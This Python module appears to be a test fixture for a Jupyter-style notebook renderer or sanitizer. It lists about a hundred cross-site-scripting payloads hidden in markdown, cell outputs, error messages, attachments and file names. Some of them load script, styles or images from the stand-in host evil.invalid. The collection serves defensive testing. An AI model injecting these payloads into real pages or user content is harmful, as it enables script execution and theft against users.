"""What a hostile learner may put into a notebook, as data. Whatever runs sets `window.__owned`; whatever is fetched is fetched from EVIL."""

from __future__ import annotations

import base64
from typing import Any

EVIL = "http://evil.invalid"
RUN = "window.__owned=1"
ON = f"onerror={RUN} onload={RUN}"
SCRIPT = f"<script>{RUN}</script>"
IMG = f"<img src=x {ON}>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'>{SCRIPT}</svg>"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


MARKDOWN: dict[str, str] = {
    "script": SCRIPT,
    "script in upper case": f"<ScRiPt>{RUN}</ScRiPt>",
    "script over lines": f"<script\n>\n{RUN}\n</script\n>",
    "script in a quote": f"> <script>\n> {RUN}\n> </script>",
    "script in a list": f"- <script>{RUN}</script>",
    "script in a table": f"| a |\n|---|\n| {SCRIPT} |",
    "script in a heading": f"# {SCRIPT}",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "module": f'<script type="module">{RUN}</script>',
    "image": IMG,
    "image without a space": f"<img/src=x/onerror={RUN}>",
    "image, unclosed": f"<img src=x {ON} ",
    "image in an unclosed tag": f"<b <img src=x {ON}>",
    "svg": SVG,
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "math": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">x</maction></math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 {ON}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x {ON}>"></noscript>',
    "textarea": f"<textarea></textarea>{IMG}</textarea>",
    "title": f"<title>{IMG}</title>",
    "comment": f"<!--><img src=x {ON}>-->",
    "comment, closed early": f"<!-- --!><img src=x {ON}> -->",
    "comment in a tag": f"<scr<!-- -->ipt>{RUN}</scr<!-- -->ipt>",
    "comment behind a bracket": f"<<!-- -->script>{RUN}</script>",
    "cdata": f"<![CDATA[<img src=x {ON}>]]>{IMG}",
    "declaration": f"<!DOCTYPE x [<!ENTITY y '{IMG}'>]>",
    "instruction": f"<?php echo 1 ?>{IMG}<?>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "details around an image": f"<details>\n\n{IMG}\n\n</details>",
    "iframe": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe of a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{EVIL}/x"></object><embed src="{EVIL}/y">',
    "form": f'<form action="javascript:{RUN}"><input type=submit autofocus onfocus={RUN}></form>',
    "button": f'<button formaction="javascript:{RUN}" form=x>press</button>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "style": f"<style>body{{background:url({EVIL}/x.png)}} @import '{EVIL}/y.css';</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({EVIL}/z.png)">x</p>',
    "focus": f"<p tabindex=1 autofocus onfocus={RUN}>x</p>",
    "animation": f"<p style='animation-name:x' onanimationstart={RUN}>x</p>",
    "custom element": f"<x-y onclick={RUN} contenteditable onfocus={RUN} autofocus>x</x-y>",
    "video": f"<video src=x {ON}><source {ON}></video><audio src=x {ON}>",
    "picture": f"<picture><source srcset={EVIL}/x.png><img src=x {ON}></picture>",
    "srcset": f'<img srcset="{EVIL}/x.png 1x" alt="x">',
    "background": f'<table background="{EVIL}/x.png"><tr><td background="{EVIL}/y.png">x</td></tr></table>',
    "autolink": f"<https://x/onmouseover={RUN}/onfocus={RUN}/autofocus/tabindex=1>",
    "autolink in HTML": f"<div>\n<https://x/autofocus/tabindex=1/onfocus={RUN}>\n</div>",
    "autolink with a link": f"[a <https://x](javascript:{RUN})>",
    "link, javascript": f"[click](javascript:{RUN})",
    "link, upper case": f"[click](JaVaScRiPt:{RUN})",
    "link, entity": f"[click](javascript&colon;{RUN})",
    "link, numbers": f"[click](&#106;avascript&#58;{RUN})",
    "link, backslash": f"[click](javascript\\:{RUN})",
    "link, tab": f"[click](java&Tab;script:{RUN})",
    "link, control": f"[click](\x01javascript:{RUN})",
    "link, newline": f"[click](\njavascript:{RUN})",
    "link in a quote": f"> [click](\n> javascript:{RUN})",
    "link, angle brackets": f"[click](<javascript:{RUN}>)",
    "link, data": f"[click](data:text/html,{_b64(SCRIPT)})",
    "link, vbscript": "[click](vbscript:x)",
    "link, files": f"[click](files/javascript:{RUN})",
    "link, files from the root": f"[click](/files/javascript:{RUN})",
    "link, beside the notebook": "[click](evil.html)",
    "link, attribute": f'[click](https://x"onmouseover="{RUN})',
    "link, title": f'[click](https://x "a"onmouseover="{RUN}")',
    "link, tag": f"<a href='javascript:{RUN}'>click</a>",
    "link, tag with files": f"<a href=files/javascript:{RUN}>click</a>",
    "link, tag with an entity": f'<a href="&#x6a;avascript:{RUN}">click</a>',
    "link around everything": f"<a href='javascript:{RUN}'>",
    "reference": f"[click][x]\n\n[x]: javascript:{RUN}",
    "reference, quote": f"[click][x]\n\n> [x]:\n> javascript:{RUN}",
    "reference, list": f"[click][x]\n\n- [x]: javascript:{RUN}",
    "reference, entity": f"[click][x]\n\n[x]: &#x6A;avascript:{RUN}",
    "reference, angle brackets": f"[click][x]\n\n[x]: <javascript:{RUN}>",
    "reference, bracket in the label": f"[a\\[b]\n\n[a\\[b]: javascript:{RUN}",
    "reference, label over lines": f"[click][x\ny]\n\n[x\ny]: javascript:{RUN}",
    "reference, beside the notebook": "[click][x]\n\n[x]: evil.html",
    "picture from elsewhere": f"![alt]({EVIL}/x.png)",
    "picture, two signs": f"!![alt]({EVIL}/x.png)",
    "picture by reference": f"![alt][x] ![x] ![x][]\n\n[x]: {EVIL}/x.png",
    "picture, brackets": f"![[a](b)]({EVIL}/x.png)",
    "picture, newline": f"![a\nb](\n{EVIL}/x.png)",
    "picture, attribute": f'![" {ON} x="](data:image/png;base64,{PNG})',
    "picture, tag": f"<img alt=x src={EVIL}/x.png>",
    "picture, size": f'<img alt="x" width="1 {ON}" src="data:image/png;base64,{PNG}">',
    "picture, javascript": f"![x](javascript:{RUN})",
    "picture, missing attachment": "![x](attachment:missing.png)",
    "picture in a link's angle brackets": f"](<https://x![c][id]>)\n\n[id]: {EVIL}/x.png",
    "mermaid": f"```mermaid\n{IMG}\n```",
    "mermaid, entity": f"```m&#101;rmaid\n{IMG}\n```",
    "mermaid, tildes": f'~~~  mermaid\ngraph TD; A-->B; click A "javascript:{RUN}"\n{IMG}\n~~~',
    "fence in a formula": f"$$\n\n```html\n$$\n{IMG}\n```\n",
    "fence in a list": f"- a\n\n      ```\n{IMG}\n      ```\n",
    "fence, closed by another": f"````\n```\n{IMG}\n````\n{IMG}",
    "code span over a tag": f'`<b title="`{IMG}">',
    "code span, escaped": f"\\`{IMG}\\`",
    "formula": f"$<img src=x {ON}>$",
    "formula, environment": f"\\begin{{a}}{IMG}\\end{{a}}{IMG}",
    "formula, link": f"$\\href{{javascript:{RUN}}}{{click}}$",
    "formula, style": f"$\\style{{background:url({EVIL}/x.png)}}{{x}} \\class{{a}}{{x}} \\cssId{{top}}{{x}}$",
    "formula, unicode": f"$\\unicode[{IMG}]{{65}} \\require{{html}} \\htmlId{{top}}{{x}}$",
    "formula, token": f'$\\mmlToken{{mi}}[href="javascript:{RUN}"]{{x}}$',
    "formula, defined": f"$\\let\\x\\href \\x{{javascript:{RUN}}}{{click}}$",
    "entities": f"&lt;img src=x {ON}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "entities twice": f"&amp;lt;img src=x {ON}&amp;gt;",
    "closing tags": f"</div></div></div></body></html>{SCRIPT}",
    "closing a script": f"</script>{SCRIPT}",
    "hidden rest": "<details><summary>The rest is gone",
    "names of the page": "# statusmessage\n\n## base_url\n\nstatusmessage\n---\n\n<form id=document name=submission_id></form>",
    "template": "{{ cell.__class__ }} {% raw %} {{ resources }}",
    "wide characters": f"＜script＞{RUN}＜/script＞ \ud83d\ud800 \u2028{IMG}\u2029",
    "nul": f"<\x00script>{RUN}</script> <im\x00g src=x {ON}>",
}


def _display(data: dict[str, Any], metadata: Any = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {} if metadata is None else metadata}


OUTPUTS: dict[str, Any] = {
    "html": _display({"text/html": SCRIPT + IMG}),
    "html, svg": _display({"text/html": SVG}),
    "html, table": _display({"text/html": f"<table onclick={RUN}><tr><td>{IMG}</td></tr></table>"}),
    "html, link": _display({"text/html": f"<a href='javascript:{RUN}'>x</a> <a href='/files/javascript:{RUN}'>x</a>"}),
    "html, image": _display({"text/html": f"<img alt=x src={EVIL}/x.png>"}),
    "html, style": _display(
        {"text/html": f"<style>@import '{EVIL}/x.css'</style><p style='background:url({EVIL}/y)'>x"}
    ),
    "html, form": _display({"text/html": f"<form action={EVIL}><input autofocus onfocus={RUN}></form>"}),
    "html, frame": _display({"text/html": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"}),
    "html, unclosed": _display({"text/html": "</div></div></div><details><table><td>"}),
    "html, isolated": _display({"text/html": SCRIPT}, {"text/html": {"isolated": True}}),
    "html, formula": _display({"text/html": f"<p>$\\href{{javascript:{RUN}}}{{x}}$</p>"}),
    "html, list": _display({"text/html": ["<scr", f"ipt>{RUN}</script>"]}),
    "html, mutation": _display({"text/html": MARKDOWN["mutation"]}),
    "svg": _display({"image/svg+xml": SVG}),
    "javascript": _display({"application/javascript": RUN}),
    "latex": _display({"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$ {IMG}"}),
    "markdown": _display({"text/markdown": f"{IMG}\n[x](javascript:{RUN})"}),
    "widget": _display({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"}}),
    "vega": _display({"application/vnd.vega.v5+json": {"data": {"url": f"{EVIL}/x"}}}),
    "mermaid": _display({"text/vnd.mermaid": IMG}),
    "pdf": _display({"application/pdf": _b64(SCRIPT)}),
    "png, width": _display({"image/png": PNG}, {"image/png": {"width": f"1 {ON}", "height": f"1>{SCRIPT}"}}),
    "png, outer width": _display({"image/png": PNG}, {"width": f"1 {ON}", "alt": IMG}),
    "png, file": _display({"image/png": PNG}, {"filenames": {"image/png": f"{EVIL}/x.png"}}),
    "png, no picture": _display({"image/png": f'x" {ON} y="'}),
    "jpeg, no picture": _display({"image/jpeg": _b64(SCRIPT)}),
    "svg file": _display({"image/svg+xml": SVG}) | {"svg_filename": f"{EVIL}/x.svg"},
    "stream": {"output_type": "stream", "name": "stdout", "text": SCRIPT + IMG},
    "stream, name": {"output_type": "stream", "name": f'stdout"{ON}', "text": IMG},
    "stream, colours": {"output_type": "stream", "name": "stderr", "text": f"\x1b[31;<{IMG}m\x1b[38;2;{ON}m x \x1b[0m"},
    "stream, link": {
        "output_type": "stream",
        "name": "stdout",
        "text": f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
    },
    "error": {"output_type": "error", "ename": SCRIPT, "evalue": IMG, "traceback": [SCRIPT, f"\x1b[0;31m{IMG}\x1b[0m"]},
    "result, count": {
        "output_type": "execute_result",
        "data": {"text/plain": IMG},
        "metadata": {},
        "execution_count": f"1]{SCRIPT}",
    },
    "plain": _display({"text/plain": SCRIPT + IMG}),
    "type": {"output_type": SCRIPT, "data": {"text/html": SCRIPT}},
    "mime": _display({SCRIPT: SCRIPT}),
}

MESSAGES: dict[str, str] = {
    "script": f"your function raised ValueError: {SCRIPT}",
    "image": f"expected 1, got {IMG}",
    "colours": f"\x1b[31m{IMG}\x1b[0m \x1b]8;;javascript:{RUN}\x07x\x07",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "nul": f"<\x00script>{RUN}</script>\ud800",
}

ATTACHMENTS: dict[str, Any] = {
    "name": {f'x" {ON} y=".png': {"image/png": PNG}},
    "type": {"a.png": {f"text/html;x={IMG}": _b64(SCRIPT)}},
    "html": {"b.png": {"text/html": _b64(SCRIPT)}},
    "content": {"c.png": {"image/png": f'" {ON} x="'}},
    "svg": {"d.svg": {"image/svg+xml": _b64(SVG)}},
    "empty": {"e.png": {}},
    "shape": {"f.png": [1, 2]},
}

NAMES: tuple[str, ...] = (
    f"</title>{SCRIPT}",
    f'"; {RUN}; "',
    f'x" {ON} y="',
    f"<img src={EVIL}/x.png>",
    f"javascript:{RUN}",
)

CODE: tuple[str, ...] = (
    f"</pre></div>{SCRIPT}{IMG}",
    f"%%html\n{SCRIPT}",
    f"'''{IMG}'''  # </script>{SCRIPT}",
    f"x = '\ud800\x00<img src=x {ON}>'",
)
